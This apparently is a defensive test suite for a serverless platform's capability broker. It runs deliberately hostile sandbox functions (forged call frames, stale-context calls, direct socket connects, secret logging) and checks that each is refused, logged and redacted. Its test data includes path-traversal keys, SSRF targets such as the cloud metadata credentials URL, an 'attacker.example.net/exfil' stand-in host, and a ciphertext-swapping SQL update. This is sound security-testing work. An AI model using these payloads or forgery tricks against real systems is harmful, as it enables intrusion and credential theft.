// The capability broker through the real platform: real sandboxes, the real broker, the CLI.
// Every attack asserts the refusal the function sees AND the security event (and audit record)
// the platform kept.
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { after, before, describe, it } from "node:test";
import { eventsFor } from "./auth-app.ts";
import { auditFor, brokerManifest, PROBE, probe } from "./broker-app.ts";
import { securityEvents } from "./security-events.ts";
import { up, writeApp, type RunningPlatform } from "./harness.ts";

const FORGER = `
import { writeSync } from "node:fs";
const frame = (message) => { const json = Buffer.from(JSON.stringify(message)); const head = Buffer.alloc(4); head.writeUInt32BE(json.length); return Buffer.concat([head, json]); };
export async function handler(event, ctx) {
  // A call frame that claims, in every way a frame could, to come from the holder function. It is
  // tagged with the sandbox's first invocation (this one: "1"), as the runtime's own calls are.
  writeSync(3, frame({ t: "call", id: 4242, inv: "1", op: "secrets.get", args: ["HOLDER_SECRET"], function: "holder", owner: { function: "holder", version: 1 }, caller: "holder" }));
  writeSync(3, frame({ t: "call", id: 4243, inv: "1", op: "kv.get", args: ["vault", "k"], owner: { function: "holder", version: 1 } }));
  // Frames are handled in order: once this answers, the forged ones were decided.
  try { await ctx.kv("own").get("x"); } catch {}
  return "sent";
}
`;

// Keeps the ctx of its first request and uses it in the next: that call carries an invocation that
// has ended, as a timer a handler left running does. Module state shows whether the sandbox lived.
const LINGERER = `
let kept;
let served = 0;
export async function handler(event, ctx) {
  served++;
  if (kept === undefined) { kept = ctx; return { served }; }
  const late = await kept.fetch("https://api.example.com/v1?key=lingerer-query-secret").then(() => "sent", (e) => [e.name, e.code]);
  return { served, late };
}
`;

// Tags a call with an invocation its sandbox never ran: no runtime does that, code writing to fd 3 does.
const IMPOSTOR = `
import { writeSync } from "node:fs";
export async function handler() {
  const json = Buffer.from(JSON.stringify({ t: "call", id: 77, inv: "424242", op: "secrets.get", args: ["HOLDER_SECRET"] }));
  const head = Buffer.alloc(4); head.writeUInt32BE(json.length);
  writeSync(3, Buffer.concat([head, json]));
  return new Promise(() => {});
}
`;

const CONNECTOR = `
import * as net from "node:net";
export async function handler(event) {
  const { port } = JSON.parse(event.body);
  try {
    await new Promise((resolve, reject) => {
      const s = net.connect({ host: "127.0.0.1", port });
      s.once("connect", () => { s.destroy(); resolve(); });
      s.once("error", reject);
      setTimeout(() => { s.destroy(); reject(Object.assign(new Error("timeout"), { code: "TIMEOUT" })); }, 2000);
    });
    return { connected: true };
  } catch (e) {
    return { connected: false, code: e.code };
  }
}
`;

const LEAKER = `
export async function handler(event, ctx) {
  const value = await ctx.secrets.get("LEAK_SECRET");
  console.log("connecting with", value);
  ctx.log.error({ token: value, note: "the value again: " + value });
  console.log("as hex", Buffer.from(value).toString("hex"), "in a basic pair", Buffer.from("svc:" + value).toString("base64"));
  throw new Error("upstream refused key " + value);
}
`;

describe("the capability broker under attack", () => {
  let p: RunningPlatform;
  let server: Server;
  let port = 0;
  let hits = 0;

  const setSecret = (name: string, value: string) => {
    const file = join(p.appDir, `${name}.value`);
    writeFileSync(file, value, { mode: 0o600 });
    const r = p.cli(["secrets", "set", name, "--from-file", file]);
    assert.equal(r.code, 0, r.stderr);
  };

  before(async () => {
    server = createServer((req, res) => {
      hits++;
      res.end(`reached ${req.url}`);
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    port = (server.address() as AddressInfo).port;
    const fns: Record<string, { handler: string; extra?: string }> = {
      holder: { handler: "probe.js", extra: "permissions:\n  secrets: [HOLDER_SECRET]\n  kv: { vault: [read, write] }\n  objects: { files: [read, write] }" },
      intruder: { handler: "probe.js", extra: "permissions:\n  kv: { own: [read, write] }" },
      forger: { handler: "forger.js", extra: "permissions:\n  kv: { own: [read] }" },
      fetcher: { handler: "probe.js", extra: `permissions:\n  egress: ["localhost:${port}"]` },
      "fetch-ok": { handler: "probe.js", extra: `permissions:\n  egress: ["127.0.0.1:${port}"]` },
      connector: { handler: "connector.js" },
      lingerer: { handler: "lingerer.js", extra: 'permissions:\n  egress: ["api.example.com:443"]' },
      impostor: { handler: "impostor.js" },
      caller: { handler: "probe.js", extra: "permissions:\n  invoke: [callee]" },
      "lone-caller": { handler: "probe.js" },
      callee: { handler: "probe.js" },
      known: {
        handler: "probe.js",
        extra: 'permissions:\n  secrets: [KNOWN_SECRET, UNUSED_SECRET]\n  kv: { ledger: [read, write], extra: [read] }\n  objects: { docs: [read, write] }\n  egress: ["api.example.com:443"]',
      },
      leaker: { handler: "leaker.js", extra: "permissions:\n  secrets: [LEAK_SECRET]" },
    };
    p = await up(
      writeApp({
        "bulwark.yaml": brokerManifest("vault", fns),
        "probe.js": PROBE,
        "forger.js": FORGER,
        "connector.js": CONNECTOR,
        "lingerer.js": LINGERER,
        "impostor.js": IMPOSTOR,
        "leaker.js": LEAKER,
      }),
    );
    setSecret("HOLDER_SECRET", "holder-secret-value-1");
    setSecret("KNOWN_SECRET", "known-secret-value-1");
    setSecret("LEAK_SECRET", "leak-me-if-you-can-42");
  });
  after(async () => {
    await p?.stop();
    server?.closeAllConnections();
    server?.close();
  });

  it("serves granted calls: secret, KV and objects", async () => {
    const r = await probe(p.fetch, "holder", [
      ["secrets.get", "HOLDER_SECRET"],
      ["kv", "vault", "put", "k", "vault-value"],
      ["kv", "vault", "get", "k"],
      ["objects", "files", "put", "a/b.txt", "file body"],
      ["objects", "files", "get", "a/b.txt"],
      ["objects", "files", "list", "a/"],
    ]);
    assert.deepEqual(r.results.map((o) => o.value), ["holder-secret-value-1", null, "vault-value", null, "file body", ["a/b.txt"]]);
    const [read] = await auditFor(p.dataDir, r.requestId, "secret.read");
    assert.deepEqual([read?.actorType, read?.actorId, read?.target], ["function", "holder", "secret:HOLDER_SECRET"]);
  });

  it("refuses an undeclared secret with PermissionDenied naming the grant, an event and an audit record", async () => {
    const r = await probe(p.fetch, "intruder", [["secrets.get", "HOLDER_SECRET"]]);
    assert.deepEqual(r.results[0], {
      ok: false,
      name: "PermissionDenied",
      code: "BWK_PERMISSION_DENIED",
      message: "intruder may not read secret HOLDER_SECRET; grant it with secrets: [HOLDER_SECRET]",
    });
    const [event] = (await eventsFor(p.dataDir, r.res)).filter((e) => e.type === "capability.denied");
    assert.equal(event?.function, "intruder");
    assert.equal(event?.details?.["missing"], "secrets: [HOLDER_SECRET]");
    const [record] = await auditFor(p.dataDir, r.requestId, "capability.denied");
    assert.deepEqual([record?.actorId, record?.outcome, record?.target], ["intruder", "denied", "secrets.get:HOLDER_SECRET"]);
  });

  it("refuses another function's KV namespace and bucket", async () => {
    const r = await probe(p.fetch, "intruder", [
      ["kv", "vault", "get", "k"],
      ["kv", "vault", "list"],
      ["objects", "files", "get", "a/b.txt"],
    ]);
    assert.deepEqual(r.results.map((o) => o.code), ["BWK_PERMISSION_DENIED", "BWK_PERMISSION_DENIED", "BWK_PERMISSION_DENIED"]);
    const events = (await eventsFor(p.dataDir, r.res)).filter((e) => e.type === "capability.denied");
    assert.deepEqual(events.map((e) => e.details?.["missing"]), ["kv: { vault: [read] }", "kv: { vault: [read] }", "objects: { files: [read] }"]);
  });

  it("refuses object keys that traverse: ../, absolute, backslash and encoded forms", async () => {
    const keys = ["../intruder/x", "a/../../b", "/etc/passwd", "a\\..\\b", "%2e%2e/x", "a/%252e%252e/b", "..%2fx", "C:/x"];
    const r = await probe(p.fetch, "holder", keys.map((k) => ["objects", "files", "put", k, "x"]));
    assert.deepEqual(r.results.map((o) => o.code), keys.map(() => "BWK_INVALID_ARGUMENT"));
    const events = (await eventsFor(p.dataDir, r.res)).filter((e) => e.type === "broker.key_refused");
    assert.equal(events.length, keys.length);
    assert.ok(events.every((e) => e.severity === "high" && e.function === "holder"));
  });

  it("attributes forged call frames to the sandbox they came from, never to the identity they claim", async () => {
    const res = await p.fetch("/forger", { method: "POST" });
    assert.equal(res.status, 200);
    const requestId = res.headers.get("x-request-id")!;
    const denied = (await eventsFor(p.dataDir, res)).filter((e) => e.type === "capability.denied");
    assert.deepEqual(denied.map((e) => [e.function, e.details?.["action"], e.details?.["resource"]]), [
      ["forger", "secrets.get", "HOLDER_SECRET"],
      ["forger", "kv.get", "vault"],
    ]);
    assert.deepEqual(await auditFor(p.dataDir, requestId, "secret.read", { wait: false }), []);
  });

  it("refuses a call made after the handler returned, recorded by host:port only, and the sandbox keeps serving", async () => {
    const first = await p.fetch("/lingerer", { method: "POST" });
    assert.deepEqual(await first.json(), { served: 1 });
    const second = await p.fetch("/lingerer", { method: "POST" });
    assert.deepEqual(await second.json(), { served: 2, late: ["PermissionDenied", "BWK_PERMISSION_DENIED"] });
    const [event] = (await securityEvents(p, "capability.denied")).filter((e) => e.function === "lingerer");
    assert.equal(event?.details?.["denyReason"], "no-invocation");
    assert.equal(event?.details?.["resource"], "api.example.com:443");
    const records = await auditFor(p.dataDir, { actor: "lingerer" }, "capability.denied");
    assert.deepEqual(records.map((r) => r.target), ["egress:api.example.com:443"]);
    assert.doesNotMatch(JSON.stringify([event, records]), /lingerer-query-secret/);
  });

  it("ends a sandbox that claims an invocation it never ran, recorded as sandbox.protocol_violation", async () => {
    const res = await p.fetch("/impostor", { method: "POST" });
    assert.equal(res.status, 502);
    const [event] = (await eventsFor(p.dataDir, res)).filter((e) => e.type === "sandbox.protocol_violation");
    assert.equal(event?.severity, "high");
    assert.equal(event?.function, "impostor");
    assert.match(event?.reason ?? "", /a call for an invocation it never ran/);
    assert.deepEqual(await auditFor(p.dataDir, res.headers.get("x-request-id")!, "secret.read", { wait: false }), []);
  });

  it("refuses SSRF to 127.0.0.1, 169.254.169.254, [::1] and an ungranted host, connecting nowhere", async () => {
    const before = hits;
    const r = await probe(p.fetch, "fetcher", [
      ["fetch", `http://127.0.0.1:${port}/`],
      ["fetch", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
      ["fetch", `http://[::1]:${port}/`],
      ["fetch", "https://attacker.example.net/exfil"],
      ["fetch", `http://2130706433:${port}/`],
    ]);
    assert.deepEqual(r.results.map((o) => o.code), r.results.map(() => "BWK_PERMISSION_DENIED"));
    const events = (await eventsFor(p.dataDir, r.res)).filter((e) => e.type === "capability.denied");
    assert.deepEqual(events.map((e) => e.details?.["resource"]), [
      `127.0.0.1:${port}`,
      "169.254.169.254:80",
      `[::1]:${port}`,
      "attacker.example.net:443",
      `127.0.0.1:${port}`,
    ]);
    assert.equal(events[3]?.details?.["missing"], 'egress: ["attacker.example.net:443"]');
    assert.equal(hits, before);
  });

  it("refuses a granted hostname that resolves to loopback (localhost), recorded as egress.blocked", async () => {
    const before = hits;
    const r = await probe(p.fetch, "fetcher", [["fetch", `http://localhost:${port}/`]]);
    assert.equal(r.results[0]?.code, "BWK_PERMISSION_DENIED");
    const [event] = (await eventsFor(p.dataDir, r.res)).filter((e) => e.type === "egress.blocked");
    assert.equal(event?.severity, "high");
    assert.equal(event?.details?.["denyReason"], "blocked-address");
    assert.equal(hits, before);
  });

  it("performs granted egress through the broker", async () => {
    const r = await probe(p.fetch, "fetch-ok", [["fetch", `http://127.0.0.1:${port}/granted`]]);
    assert.deepEqual(r.results[0]?.value, { status: 200, text: "reached /granted" });
  });

  it("gives a sandbox no network of its own: a direct net.connect fails", async () => {
    const before = hits;
    const res = await p.fetch("/connector", { method: "POST", body: JSON.stringify({ port }) });
    const body = (await res.json()) as { connected: boolean; code: string };
    assert.equal(body.connected, false);
    assert.equal(hits, before);
  });

  it("invokes a granted function with a workload identity: the callee sees the caller, not the end user", async () => {
    const r = await probe(p.fetch, "caller", [["invoke", "callee", { calls: [] }]]);
    assert.deepEqual(r.results[0], { ok: true, value: { results: [], caller: { function: "caller" }, identity: null } });
  });

  it("refuses ctx.invoke without an invoke grant", async () => {
    const r = await probe(p.fetch, "lone-caller", [["invoke", "callee", {}]]);
    assert.equal(r.results[0]?.name, "PermissionDenied");
    const [event] = (await eventsFor(p.dataDir, r.res)).filter((e) => e.type === "capability.denied");
    assert.equal(event?.details?.["missing"], "invoke: [callee]");
  });

  it("detects a swapped ciphertext row (raw SQL on the database file)", async () => {
    await probe(p.fetch, "holder", [
      ["kv", "vault", "put", "alice", "alice-balance-100"],
      ["kv", "vault", "put", "mallory", "mallory-balance-0"],
    ]);
    const db = new DatabaseSync(join(p.dataDir, "bulwark.db"));
    db.exec("PRAGMA busy_timeout = 5000");
    db.exec(
      "UPDATE kv SET wrapped_key = (SELECT wrapped_key FROM kv WHERE key = 'alice'), ciphertext = (SELECT ciphertext FROM kv WHERE key = 'alice') WHERE key = 'mallory'",
    );
    db.close();
    const r = await probe(p.fetch, "holder", [["kv", "vault", "get", "mallory"], ["kv", "vault", "get", "alice"]]);
    assert.equal(r.results[0]?.code, "BWK_DECRYPT_FAILED");
    assert.equal(r.results[0]?.message?.includes("alice-balance"), false);
    assert.equal(r.results[1]?.value, "alice-balance-100");
    const [event] = (await eventsFor(p.dataDir, r.res)).filter((e) => e.type === "data.tampered");
    assert.equal(event?.severity, "high");
  });

  it("redacts a secret the function read from its logs and from the error response", async () => {
    const res = await p.fetch("/leaker", { method: "POST" });
    assert.equal(res.status, 500);
    const body = await res.text();
    assert.equal(body.includes("leak-me-if-you-can-42"), false);
    const logs = p.cli(["logs", "leaker"]);
    assert.equal(logs.code, 0, logs.stderr);
    assert.match(logs.stdout, /connecting with \[REDACTED\]/);
    assert.match(logs.stdout, /as hex \[REDACTED\] in a basic pair \S{0,8}\[REDACTED\]/);
    assert.equal(logs.stdout.includes("leak-me-if-you-can-42"), false, logs.stdout);
    assert.equal(p.stderr().includes("leak-me-if-you-can-42"), false, p.stderr());
  });

  it("policy suggest prints exactly the minimal grant of a function whose access is known", async () => {
    await probe(p.fetch, "known", [
      ["secrets.get", "KNOWN_SECRET"],
      ["kv", "ledger", "get", "a"],
      ["kv", "ledger", "put", "a", "1"],
      ["objects", "docs", "put", "x.txt", "x"],
      ["secrets.get", "HOLDER_SECRET"],
    ]);
    const r = p.cli(["policy", "suggest", "known"]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, ["permissions:", "  secrets: [KNOWN_SECRET]", "  kv:", "    ledger: [read, write]", "  objects:", "    docs: [write]", ""].join("\n"));
    assert.match(r.stderr, /refused, not included: secrets\.get HOLDER_SECRET/);
  });

  it("policy lint flags unused grants from recorded history and exits non-zero on medium findings", () => {
    const r = p.cli(["policy", "lint", "--json"]);
    const findings = JSON.parse(r.stdout) as Array<{ function: string; rule: string; field: string }>;
    const known = findings.filter((f) => f.function === "known").map((f) => `${f.rule} ${f.field}`);
    assert.ok(known.includes("unused-grant functions.known.permissions.secrets[1]"));
    assert.ok(known.includes("unknown-target functions.known.permissions.secrets[1]"));
    assert.ok(known.includes("unused-grant functions.known.permissions.kv.extra[0]"));
    assert.ok(known.includes("unused-grant functions.known.permissions.egress[0]"));
    assert.equal(r.code, 1);
  });
});
